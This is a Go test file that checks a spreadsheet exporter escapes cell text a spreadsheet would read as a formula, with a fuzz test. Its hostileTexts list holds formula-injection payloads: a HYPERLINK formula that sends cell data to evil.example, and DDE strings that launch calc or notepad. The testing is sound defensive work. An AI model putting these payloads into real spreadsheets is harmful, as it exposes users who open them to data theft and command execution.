package xlsx_test

// Exported cells never carry a formula (test plan T12): a text that a
// spreadsheet would read as one is escaped in every workbook we write.

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"antq"
	"antq/internal/fuzzstat"
	"antq/xlsx"
	"antq/yearend"
)

// live reports whether a spreadsheet would take a cell's text for a
// formula (or a DDE call).
func live(s string) bool {
	return strings.IndexAny(s, "=+-@\t\r＝＋－＠") == 0
}

// checkWorkbook opens a workbook and fails on any cell that holds a
// formula or text that would be read as one.
func checkWorkbook(t *testing.T, body []byte) int {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cells := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
					t.Fatalf("%s!%s holds the formula %q", sheet, ref, formula)
				}
				// A number (a negative score) is a number; text is the danger.
				typ, _ := f.GetCellType(sheet, ref)
				text := typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString || typ == excelize.CellTypeFormula
				if live(v) && text {
					t.Fatalf("%s!%s holds %q, which a spreadsheet reads as a formula", sheet, ref, v)
				}
				cells++
			}
		}
	}
	return cells
}

func hostileRow(s string) yearend.ResultRow {
	score := antq.Tenths(-15)
	return yearend.ResultRow{Unit: &antq.Unit{Code: s, Name: s, Kind: antq.KindResidentialArea, Type: s}, Parent: s,
		Recognition: antq.RecognitionMet, RecognitionDoc: s, RecognitionOn: antq.MustDate("2023-11-15"), Authority: s,
		Grade: antq.GradeGood, Score: &score, GradeDoc: s}
}

var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")`, `=cmd|' /C calc'!A0`, `+cmd|' /C notepad'!A0`,
	`-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", `＝1+1`, `=1+1`, "-", "Khu phố 1",
}

func TestResultsNeutraliseFormulas(t *testing.T) {
	var rows []yearend.ResultRow
	for _, s := range hostileTexts {
		rows = append(rows, hostileRow(s))
	}
	var buf bytes.Buffer
	if err := xlsx.WriteResults(&buf, "=HYPERLINK(\"http://evil.example\")", rows); err != nil {
		t.Fatal(err)
	}
	if n := checkWorkbook(t, buf.Bytes()); n < len(rows)*10 {
		t.Fatalf("only %d cells checked", n)
	}
	f, _ := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	got, _ := f.GetCellValue("Khu dân cư", "C4")
	if got != "'"+hostileTexts[0] {
		t.Fatalf("name cell = %q, want the text behind an apostrophe", got)
	}
	if got, _ := f.GetCellValue("Khu dân cư", "C14"); got != "Khu phố 1" {
		t.Fatalf("a plain name became %q", got)
	}
	// The empty workbook's title too.
	buf.Reset()
	if err := xlsx.WriteResults(&buf, "@evil", nil); err != nil {
		t.Fatal(err)
	}
	checkWorkbook(t, buf.Bytes())
}

func FuzzWriteResults(f *testing.F) {
	for _, s := range hostileTexts {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, title, text string) {
		fuzzstat.Count("FuzzWriteResults")
		var buf bytes.Buffer
		if err := xlsx.WriteResults(&buf, title, []yearend.ResultRow{hostileRow(text)}); err != nil {
			return // excelize refuses some text (too long, invalid XML characters): nothing is written
		}
		checkWorkbook(t, buf.Bytes())
	})
}
